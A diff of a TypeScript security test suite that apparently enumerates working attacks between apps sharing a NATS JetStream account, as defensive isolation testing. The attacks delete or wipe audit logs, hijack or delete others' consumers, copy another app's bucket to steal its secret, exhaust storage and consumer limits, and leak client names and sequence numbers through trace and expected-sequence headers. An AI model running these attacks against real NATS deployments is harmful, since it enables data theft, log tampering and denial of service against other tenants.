@@ -1,3 +1,4 @@
+import { clientNameOf } from "../server/world";
 import { type Ground, SECRET, settle } from "./ground";
 
 /** What an app is given beyond what it needs, so that an attack works in an account that it shares. */
@@ -17,20 +18,47 @@ export interface Attack {
   readonly meanwhile?: (ground: Ground) => Promise<unknown>;
   /** Whether it has had its effect. */
   readonly works: (ground: Ground) => boolean | Promise<boolean>;
+  /** Whether it also publishes what it may, so that in an account of its own not everything stays as it was. */
+  readonly leaves?: boolean;
+  /** What makes room for other attacks of the same app, where it has an account of its own. */
+  readonly after?: (ground: Ground) => Promise<unknown>;
+  /** What the attacker is told in an account that it shares, in so many answers. */
+  readonly told?: readonly RegExp[];
+  /** The subjects that the server says it refuses to the attacker, in an account that it shares. */
+  readonly refused?: (ground: Ground) => readonly string[];
   readonly grants?: Grants;
+  /** The limits that the shared account has for it to be quick. */
+  readonly limits?: string;
 }
 
+/** A pattern, the same everywhere or with names of the place. */
+type Pattern = RegExp | ((ground: Ground) => RegExp);
+
+const patternOf = (pattern: Pattern, ground: Ground) => (pattern instanceof RegExp ? pattern : pattern(ground));
+
 /** The effect that a key of the victim's has a value. */
-const written = (what: RegExp) => async (ground: Ground) => what.test(await ground.victimValue());
+const written = (what: Pattern) => async (ground: Ground) => patternOf(what, ground).test(await ground.victimValue());
 
 /** The effect that a message reaches a subscriber of the victim's. */
-const heard = (what: RegExp) => (ground: Ground) => ground.heard.some((message) => what.test(message.string()));
+const heard = (what: Pattern) => (ground: Ground) =>
+  ground.heard.some((message) => patternOf(what, ground).test(message.string()));
 
 /** The effect that the attacker knows something. */
-const learned = (what: (ground: Ground) => RegExp) => (ground: Ground) =>
-  ground.learned.some((text) => what(ground).test(text));
+const learned = (what: Pattern) => (ground: Ground) =>
+  ground.learned.some((text) => patternOf(what, ground).test(text));
 
-const learnedSecret = learned(() => new RegExp(`${SECRET}|${btoa(SECRET).replace(/=+$/, "")}`));
+const learnedSecret = learned(new RegExp(`${SECRET}|${btoa(SECRET).replace(/=+$/, "")}`));
+
+/** The effect that a subject of a stream has so many messages. */
+const has = (messages: number, subjectOf: (ground: Ground) => string, streamOf: (ground: Ground) => string) => {
+  return async (ground: Ground) => {
+    const subjects_filter = subjectOf(ground);
+    const { state } = await ground.streamInfo(streamOf(ground), keeperOf(ground, streamOf(ground)), {
+      subjects_filter,
+    });
+    return (state?.subjects?.[subjects_filter] ?? 0) >= messages;
+  };
+};
 
 /** The effect that a stream is no longer there. */
 const gone = (streamOf: (ground: Ground) => string) => async (ground: Ground) =>
@@ -60,11 +88,29 @@ const flags = ({ platform }: Ground) => platform.keySubject("config", "flags");
 const frames = ({ app }: Ground) => app.subject("wal", "frames");
 const ownNote = ({ app }: Ground) => app.subject("note", "any");
 
-const listenToNote = (ground: Ground) => ground.listen(ground.victimNote);
+const listenToNote = (ground: Ground) => ground.listen(ground.victimNote, ground.victimClient);
 const storeSecret = (ground: Ground) => ground.guard.store(ground.victimKey, SECRET);
+const storeOthersEvent = (ground: Ground) => ground.node.store(othersEvent(ground), SECRET);
+const storeOthersAudit = (ground: Ground) => ground.node.store(ground.victimAudit, SECRET);
 const storeEvent = (ground: Ground) => ground.node.store(event(ground), EVENT);
 const answerSecretly = ({ guard, victimNote }: Ground) =>
   guard.subscribe(victimNote, (message) => message.respond(SECRET));
+
+/** Stores a request in one's own bucket, and lets it be read with whatever may be the API of a victim as reply subject. */
+async function storedRequest(ground: Ground, tail: string, request: object): Promise<void> {
+  await ground.attacker.store(ground.keyOf("own"), JSON.stringify(request));
+  requestToApi(ground, tail, ground.readOf("own"));
+}
+
+/** Rewrites the configuration of a stream of the platform with the answer to a read of one's own key. */
+const rewrite = (ground: Ground, streamOf: (ground: Ground) => string, subjects: readonly string[], config: object) =>
+  storedRequest(ground, `STREAM.UPDATE.${streamOf(ground)}`, {
+    name: streamOf(ground),
+    subjects,
+    retention: "limits",
+    storage: "file",
+    ...config,
+  });
 
 /** Publishes to whatever may be the API of a victim with the answer to one's own request. */
 const requestToApi = (ground: Ground, tail: string, subject: string) => {
@@ -81,6 +127,86 @@ async function respondTo(ground: Ground, subjects: readonly string[], text: stri
 /** Subscribes, and learns what comes. */
 const overhear = ({ attacker, learned }: Ground, subject: string) =>
   attacker.subscribe(subject, (message) => learned.push(message.string()));
+
+/** How often something is done that could be done more often. */
+const MANY = 100;
+
+/** The bytes that an account may store which is filled. */
+export const FEW_BYTES = 1_000_000;
+
+/** The consumers that a stream may have of which all are taken. */
+const FEW_CONSUMERS = 20;
+
+/** What an acknowledgement has in it. */
+const STORED = /"seq": ?[1-9]/;
+
+/** How many events a queue group shares. */
+const EVENTS = 40;
+
+/** Longer than a server that has schedules takes to publish what is due. */
+const SCHEDULER_MILLIS = 1000;
+
+const BRIEF = "for a second";
+const SCHEDULED = "in a while";
+
+/** An event that the attacker may not publish. */
+const othersEvent = ({ platform }: Ground) => platform.subject("events", "order.placed");
+const ownAudit = ({ app }: Ground) => app.auditSubject("query");
+const lock = ({ platform }: Ground) => platform.keySubject("lock", "global-migration");
+const otherConfig = ({ platform }: Ground) => platform.keySubject("config", "other");
+
+/** Writes many keys of one's own bucket. */
+async function storeMany(ground: Ground): Promise<void> {
+  for (let index = 0; index < MANY; index++) ground.attacker.publish(ground.keyOf(`many.${index}`), "forged");
+  await ground.attacker.flush();
+}
+
+/** Makes durable consumers of the one key that one may watch. */
+async function leaveDurables(ground: Ground, count: number): Promise<void> {
+  const stream = platformBucket(ground);
+  const create = (index: number) => {
+    const config = { durable_name: `left-${index}`, ack_policy: "explicit", filter_subject: flags(ground) };
+    const request = { stream_name: stream, config };
+    return ground.askEverywhere(`CONSUMER.CREATE.${stream}.left-${index}.${flags(ground)}`, request);
+  };
+  await Promise.all(Array.from({ length: count }, (_, index) => create(index)));
+}
+
+/** Lets the server say on a subject of one's own where a message would go, without sending it there. */
+async function trace(ground: Ground, subject: string): Promise<void> {
+  const destination = ground.app.subject("note", "trace");
+  await overhear(ground, destination);
+  ground.attacker.publish(subject, "", { headers: { "Nats-Trace-Dest": destination, "Nats-Trace-Only": "true" } });
+}
+
+/** Publishes on a subject of one's own, if the last message of another subject has a number that it does not have. */
+const publishExpecting = (ground: Ground, subject: string, other: string) =>
+  ground.ask(subject, "any", {
+    "Nats-Expected-Last-Subject-Sequence": "987654321",
+    "Nats-Expected-Last-Subject-Sequence-Subject": other,
+  });
+
+/** The effect that the attacker knows the number of the last message of a subject. */
+const learnedLast = (subjectOf: (ground: Ground) => string, streamOf: (ground: Ground) => string) => {
+  return async (ground: Ground) => {
+    const messages = await ground.messagesIn(streamOf(ground), ground.node);
+    const last = messages.filter(({ subject }) => subject === subjectOf(ground)).at(-1);
+    return last !== undefined && learned(new RegExp(`wrong last sequence: ${last.seq}"`))(ground);
+  };
+};
+
+/** Stores messages of one's own, large and then ever smaller ones, until there is no room for another. */
+export const FILL: Attack = {
+  run: async (ground) => {
+    for (let size = FEW_BYTES / 50; size >= 1; size = Math.floor(size / 4)) {
+      for (let sent = 0; sent < 200; sent++) {
+        if (!STORED.test(await ground.ask(frames(ground), "x".repeat(size)))) break;
+      }
+    }
+  },
+  works: async ({ guard, victimKey }) => !STORED.test((await guard.request(victimKey, "any")).string()),
+  after: (ground) => ground.ask(`$JS.API.STREAM.PURGE.${ground.app.walStream}`),
+};
 
 /** Everything that works between the apps of one account, with what it takes. */
 export const ATTACKS: { readonly [name: string]: Attack } = {
@@ -133,12 +259,12 @@ export const ATTACKS: { readonly [name: string]: Attack } = {
   "the acknowledgement of a frame of one's own log overwrites another app's key": {
     before: storeSecret,
     run: async (ground) => ground.requestTo(ground.victimKey, frames(ground), "any"),
-    works: written(/"stream"/),
+    works: written((ground) => new RegExp(`"stream":\\s*"${ground.app.walStream}"`)),
   },
   "the acknowledgement of one's own key overwrites another app's key": {
     before: storeSecret,
     run: async (ground) => ground.requestTo(ground.victimKey, ground.keyOf("own"), "any"),
-    works: written(/"stream"/),
+    works: written((ground) => new RegExp(`"stream":\\s*"KV_${ground.app.keyValueStore}"`)),
   },
   "a fetch from one's durable consumer speaks to another app in the platform's name": {
     before: async (ground) => {
@@ -159,7 +285,24 @@ export const ATTACKS: { readonly [name: string]: Attack } = {
   "an acknowledgement speaks to another app": {
     before: listenToNote,
     run: async (ground) => ground.requestTo(ground.victimNote, frames(ground), "any"),
-    works: heard(/"stream"/),
+    works: heard((ground) => new RegExp(`"stream":\\s*"${ground.app.walStream}"`)),
+  },
+  "a fetch from one's durable consumer, when there is nothing, deletes the audit log": {
+    run: async (ground) => {
+      for (const api of ground.apis) {
+        ground.requestTo(`${api}.STREAM.DELETE.${audit(ground)}`, ground.next, JSON.stringify({ no_wait: true }));
+      }
+    },
+    works: gone(audit),
+  },
+  "the confirmation of an acknowledgement deletes the audit log": {
+    run: async (ground) => {
+      const acknowledgement = `$JS.ACK.${events(ground)}.${ground.consumer}.1.1.1.1.0`;
+      for (const api of ground.apis) {
+        ground.requestTo(`${api}.STREAM.DELETE.${audit(ground)}`, acknowledgement, "+WPI");
+      }
+    },
+    works: gone(audit),
   },
   "a fetch from one's durable consumer stores its messages in another app's bucket": {
     before: storeEvent,
@@ -231,10 +374,138 @@ export const ATTACKS: { readonly [name: string]: Attack } = {
     meanwhile: ({ guard, victimNote }) => guard.request(victimNote),
     works: learnedSecret,
   },
-  "the names of all streams are shown": {
+  "the name of another app's bucket is shown": {
     run: (ground) => ground.askEverywhere("STREAM.NAMES"),
-    works: learned((ground) => new RegExp(`"(${bucket(ground)}|${audit(ground)})"`)),
+    works: learned((ground) => new RegExp(`"${bucket(ground)}"`)),
   },
+  "the names of the platform's streams are shown": {
+    run: (ground) => ground.askEverywhere("STREAM.NAMES"),
+    works: learned((ground) => new RegExp(`"${audit(ground)}"`)),
+  },
+  "a read of one's own key pauses another app's durable consumer": {
+    run: async (ground) => {
+      const tail = `CONSUMER.PAUSE.${events(ground)}.${ground.victim.consumer()}`;
+      await storedRequest(ground, tail, { pause_until: "2100-01-01T00:00:00Z" });
+    },
+    works: async (ground) => (await ground.victimConsumer()).paused === true,
+  },
+  "a read of a key that does not exist deletes another app's durable consumer": {
+    run: async (ground) => {
+      requestToApi(ground, `CONSUMER.DELETE.${events(ground)}.${ground.victim.consumer()}`, ground.readOf("none"));
+    },
+    works: async (ground) => (await ground.victimConsumer()).error?.err_code === 10014,
+  },
+  "a read of one's own key rewrites another app's durable consumer": {
+    run: async (ground) => {
+      const name = ground.victim.consumer();
+      const config = { durable_name: name, ack_policy: "explicit", filter_subject: othersEvent(ground) };
+      const tail = `CONSUMER.CREATE.${events(ground)}.${name}.${othersEvent(ground)}`;
+      await storedRequest(ground, tail, { stream_name: events(ground), config });
+    },
+    works: async (ground) => (await ground.victimConsumer()).config?.filter_subject === othersEvent(ground),
+  },
+  "a read of one's own key lets the audit log, of which nothing can be deleted, forget everything": {
+    before: storeOthersAudit,
+    run: async (ground) => {
+      const age = { max_age: 100_000_000, duplicate_window: 100_000_000 };
+      await rewrite(ground, audit, [ground.platform.componentSubjects("audit")], {
+        deny_delete: true,
+        deny_purge: true,
+        ...age,
+      });
+    },
+    works: counts(0, audit),
+  },
+  "a read of one's own key lets the platform's events store other subjects": {
+    run: (ground) => rewrite(ground, events, [ownNote(ground)], {}),
+    works: async (ground) => {
+      const { config } = await ground.streamInfo(events(ground), ground.node);
+      return config?.subjects[0] === ownNote(ground);
+    },
+  },
+  "a read of one's own key makes a stream that copies another app's bucket and publishes it": {
+    before: storeSecret,
+    run: async (ground) => {
+      const name = `${ground.app.keyValueStore}_copy`;
+      const stolen = ground.app.subject("note", "stolen");
+      await overhear(ground, `${stolen}.>`);
+      const copy = { sources: [{ name: bucket(ground) }], republish: { src: ">", dest: `${stolen}.>` } };
+      await storedRequest(ground, `STREAM.CREATE.${name}`, { name, storage: "memory", ...copy });
+    },
+    works: learnedSecret,
+  },
+  "a read of one's own key lets one's own bucket copy another app's, where one reads it": {
+    before: storeSecret,
+    run: async (ground) => {
+      const own = `KV_${ground.app.keyValueStore}`;
+      const { config } = JSON.parse(await ground.ask(`$JS.API.STREAM.INFO.${own}`));
+      const transform = { src: `$KV.${ground.victimBucket}.>`, dest: ground.keyOf("stolen.>") };
+      const sources = [{ name: bucket(ground), subject_transforms: [transform] }];
+      await storedRequest(ground, `STREAM.UPDATE.${own}`, { ...config, sources });
+    },
+    works: async (ground) => {
+      await ground.ask(ground.readOf("stolen.x"), "");
+      return learnedSecret(ground);
+    },
+  },
+  "one read of many keys of one's own fills another app's part of the audit log": {
+    run: async (ground) => {
+      await storeMany(ground);
+      const all = JSON.stringify({ multi_last: [ground.keyOf("many.>")] });
+      ground.requestTo(ground.victimAudit, `$JS.API.DIRECT.GET.KV_${ground.app.keyValueStore}`, all);
+    },
+    works: has(MANY, ({ victimAudit }) => victimAudit, audit),
+  },
+  "one read of a batch of one's own keys speaks to another app many times": {
+    before: listenToNote,
+    run: async (ground) => {
+      await storeMany(ground);
+      const all = JSON.stringify({ next_by_subj: ground.keyOf("many.>"), seq: 1, batch: 10 * MANY });
+      ground.requestTo(ground.victimNote, `$JS.API.DIRECT.GET.KV_${ground.app.keyValueStore}`, all);
+    },
+    works: ({ heard }) => heard.length >= MANY,
+  },
+  "whoever may watch one key of the platform's bucket leaves many durable consumers there": {
+    run: (ground) => leaveDurables(ground, MANY),
+    works: async (ground) => (await ground.durablesOn(platformBucket(ground))) === MANY,
+  },
+  // nats-server 2.15 has a bound of 1000 without being told.
+  "whoever may watch one key of the platform's bucket takes all consumers there, so that nobody else watches a key": {
+    limits: `max_consumers: ${FEW_CONSUMERS}`,
+    run: (ground) => leaveDurables(ground, FEW_CONSUMERS),
+    works: async (ground) => {
+      const stream = platformBucket(ground);
+      const request = JSON.stringify({ stream_name: stream, config: { name: "another", ack_policy: "none" } });
+      const answer = await ground.node.request(`$JS.API.CONSUMER.CREATE.${stream}.another`, request);
+      await ground.node.request(`$JS.API.CONSUMER.DELETE.${stream}.another`);
+      return JSON.parse(answer.string()).error?.err_code === 10026;
+    },
+  },
+  "the trace of an event names other apps' clients and queue groups": {
+    before: (ground) => ground.victimClient.subscribe(event(ground), undefined, `${ground.victim.user}.workers`),
+    run: (ground) => trace(ground, event(ground)),
+    works: learned(
+      ({ victim }) => new RegExp(`"name":"${clientNameOf(victim.user)}".*"queue":"${victim.user}.workers"`),
+    ),
+  },
+  "the trace of an event names the stream that stores it": {
+    run: (ground) => trace(ground, event(ground)),
+    works: learned((ground) => new RegExp(`"stream":"${events(ground)}"`)),
+  },
+  "the trace of a call names the clients that serve": {
+    before: ({ victim, victimClient }) =>
+      victimClient.subscribe(victim.apiSubject("get"), undefined, `${victim.user}.workers`),
+    run: (ground) => trace(ground, ground.victim.apiSubject("get")),
+    works: learned(
+      ({ victim }) => new RegExp(`"name":"${clientNameOf(victim.user)}".*"queue":"${victim.user}.workers"`),
+    ),
+  },
+  "whoever may write one key of the platform's bucket learns the revision of another": {
+    before: (ground) => ground.node.store(otherConfig(ground), SECRET),
+    run: (ground) => publishExpecting(ground, lock(ground), otherConfig(ground)),
+    works: learnedLast(otherConfig, platformBucket),
+  },
+  "an app fills the account, so that nobody else stores anything": { ...FILL, limits: `max_file: ${FEW_BYTES}` },
   "another app's durable consumer is rewritten, where that is granted": {
     grants: { publish: ["$JS.API.CONSUMER.>"] },
     run: async (ground) => {
@@ -353,18 +624,71 @@ export const ATTACKS: { readonly [name: string]: Attack } = {
   },
 };
 
+/**
+ * What works from an account of its own as well. The platform's streams store what all accounts publish, and the server
+ * takes the conditions and ids of everybody's messages for those of one sender; and whoever imports a look at the
+ * platform's bucket may ask it for the names of all keys.
+ */
+export const ACROSS_ACCOUNTS: { readonly [name: string]: Attack } = {
+  "whoever publishes events learns the number of another app's last event": {
+    before: storeOthersEvent,
+    run: (ground) => publishExpecting(ground, event(ground), othersEvent(ground)),
+    works: learnedLast(othersEvent, events),
+  },
+  "whoever writes audit messages learns the number of another app's last one": {
+    before: storeOthersAudit,
+    run: (ground) => publishExpecting(ground, ownAudit(ground), ground.victimAudit),
+    works: learnedLast(({ victimAudit }) => victimAudit, audit),
+  },
+  "an event with the id of another app's event takes its place": {
+    run: (ground) => ground.ask(event(ground), "any", { "Nats-Msg-Id": ground.guessed }),
+    meanwhile: (ground) => ground.storeIdentified(event(ground)),
+    works: ({ suppressed }) => suppressed,
+  },
+  "an audit message with the id of another app's takes its place": {
+    run: (ground) => ground.ask(ownAudit(ground), "any", { "Nats-Msg-Id": ground.guessed }),
+    meanwhile: (ground) => ground.storeIdentified(ground.victimAudit),
+    works: ({ suppressed }) => suppressed,
+  },
+  "whoever may look at the platform's bucket sees the names of all keys": {
+    run: (ground) => ground.askEverywhere(`STREAM.INFO.${platformBucket(ground)}`, { subjects_filter: ">" }),
+    works: learned(({ platform }) => new RegExp(`access\\.users\\.${platform.terraformUser}"`)),
+  },
+};
+
+/** What an app does to others by joining their queue groups; it crosses accounts that import the same events. */
+export const QUEUE_GROUPS: { readonly [name: string]: Attack } = {
+  "whoever receives events takes a part of another app's, in its queue group": {
+    before: ({ platform, victim, victimClient, received }) =>
+      victimClient.subscribe(platform.componentSubjects("events"), (message) => received.push(message), victim.user),
+    run: ({ attacker, learned, platform, victim }) =>
+      attacker.subscribe(
+        platform.componentSubjects("events"),
+        (message) => learned.push(message.string()),
+        victim.user,
+      ),
+    meanwhile: async (ground) => {
+      for (let index = 0; index < EVENTS; index++) ground.node.publish(event(ground), EVENT);
+      for (const client of [ground.node, ground.victimClient, ground.attacker]) await client.flush();
+      await settle();
+    },
+    works: ({ learned, received }) => learned.length > 0 && received.length < EVENTS,
+  },
+};
+
 /** What looks like an attack, and is none even where apps share an account. */
 export const HARMLESS: { readonly [name: string]: Attack } = {
   "a consumer does not deliver into another app's bucket by itself": {
     run: (ground) => ground.deliverTo(ground.victimKey),
-    works: holds(frames, bucket),
+    works: async (ground) => (await holds(frames, bucket)(ground)) || written(/^delivered$/)(ground),
   },
   "a consumer does not deliver into the audit log by itself": {
     run: (ground) => ground.deliverTo(ground.victimAudit),
     works: holds(frames, audit),
   },
   "a consumer does not call the API": {
-    run: (ground) => ground.deliverTo(`$JS.API.STREAM.DELETE.${events(ground)}`),
+    // Only without content could it be such a request.
+    run: (ground) => ground.deliverTo(`$JS.API.STREAM.DELETE.${events(ground)}`, ""),
     works: gone(events),
   },
   "a consumer does not acknowledge another app's messages": {
@@ -403,6 +727,7 @@ export const HARMLESS: { readonly [name: string]: Attack } = {
       await create({ filter_subject: `$KV.${ground.platform.keyValueStore}.>` });
       await create({ filter_subjects: [flags(ground), ground.platform.keySubject("config", "other")] });
     },
+    told: [/"err_code":10131\b/, /"err_code":10137\b/],
     works: learnedSecret,
   },
   "a read of one key of the platform's bucket does not read another (408)": {
@@ -414,7 +739,43 @@ export const HARMLESS: { readonly [name: string]: Attack } = {
       for (const body of bodies)
         await ground.askEverywhere(`DIRECT.GET.${platformBucket(ground)}.${flags(ground)}`, body);
     },
+    told: [/^408 /, /^408 /, /^408 /, /^408 /],
     works: learnedSecret,
+  },
+  "a roll-up does not empty the platform's events": {
+    before: storeOthersEvent,
+    run: (ground) => ground.ask(event(ground), "any", { "Nats-Rollup": "all" }),
+    told: [/"err_code":10111\b/],
+    works: async (ground) => !(await has(1, othersEvent, events)(ground)),
+  },
+  "a roll-up does not empty the audit log": {
+    before: storeOthersAudit,
+    run: (ground) => ground.ask(ownAudit(ground), "any", { "Nats-Rollup": "all" }),
+    told: [/"err_code":10111\b/],
+    works: async (ground) => !(await has(1, ({ victimAudit }) => victimAudit, audit)(ground)),
+  },
+  "no time to live lets an event or an audit message disappear": {
+    run: async (ground) => {
+      for (const subject of [event(ground), ownAudit(ground)]) await ground.ask(subject, BRIEF, { "Nats-TTL": "1s" });
+    },
+    told: [/"err_code":10166\b/, /"err_code":10166\b/],
+    works: async (ground) => {
+      const stored = [events(ground), audit(ground)].map((stream) => ground.messagesIn(stream, ground.node));
+      return (await Promise.all(stored)).flat().some(({ data }) => data === btoa(BRIEF));
+    },
+  },
+  "no schedule writes a message into another app's part of the audit log": {
+    leaves: true,
+    run: async (ground) => {
+      const at = new Date().toISOString();
+      const headers = { "Nats-Schedule": `@at ${at}`, "Nats-Schedule-Target": ground.victimAudit };
+      await ground.ask(ownAudit(ground), SCHEDULED, headers);
+      await settle(SCHEDULER_MILLIS);
+    },
+    works: async (ground) =>
+      (await ground.messagesIn(audit(ground), ground.node)).some(
+        ({ subject, data }) => subject === ground.victimAudit && data === btoa(SCHEDULED),
+      ),
   },
   "what an app is not granted is refused": {
     before: async (ground) => {
@@ -432,6 +793,15 @@ export const HARMLESS: { readonly [name: string]: Attack } = {
       }
     },
     meanwhile: (ground) => ground.guard.store(ground.victimKey, SECRET),
+    refused: (ground) => [
+      ground.victimKey,
+      ground.victimNote,
+      `$O.${ground.victim.snapshotsObjectStore}.M.any`,
+      `$JS.ACK.${events(ground)}.${ground.victim.consumer()}.1.1.1.1.0`,
+      `$KV.${ground.victimBucket}.>`,
+      ground.victim.subjects,
+      `${ground.victim.inboxPrefix}.>`,
+    ],
     works: (ground) => heard(/refused/)(ground) || learnedSecret(ground),
   },
 };
@@ -449,6 +819,7 @@ export const CLOSED_SINCE_2_12: { readonly [name: string]: Attack } = {
   "the trace of a message is written into another app's bucket": {
     run: async ({ attacker, app, victimKey }) =>
       attacker.publish(app.subject("note", "any"), "any", { headers: { "Nats-Trace-Dest": victimKey } }),
+    refused: ({ victimKey }) => [victimKey],
     works: written(/server/),
   },
 };
